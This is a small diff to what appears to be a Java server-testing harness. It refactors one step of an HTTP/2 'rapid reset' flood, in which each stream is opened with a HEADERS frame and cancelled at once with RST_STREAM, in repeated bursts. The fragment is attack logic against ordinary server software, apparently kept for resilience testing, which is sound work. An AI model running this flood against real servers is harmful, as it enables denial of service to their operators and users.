@@ -2,6 +2,7 @@ package dev.dormouse.testing.attack;
 
 import static java.nio.charset.StandardCharsets.ISO_8859_1;
 
+import dev.dormouse.testing.http.Http2Bytes;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.net.Socket;
@@ -24,7 +25,7 @@ public enum Attack {
         for (int i = stream; i < stream + 2 * BURST; i += 2) {
           int flags = Http2Bytes.END_HEADERS | Http2Bytes.END_STREAM;
           burst.writeBytes(Http2Bytes.frame(Http2Bytes.HEADERS, flags, i, block));
-          burst.writeBytes(Http2Bytes.frame(Http2Bytes.RST_STREAM, 0, i, Http2Bytes.CANCEL));
+          burst.writeBytes(Http2Bytes.reset(i, Http2Bytes.CANCEL));
         }
         send(socket, burst.toByteArray());
         Thread.sleep(20);
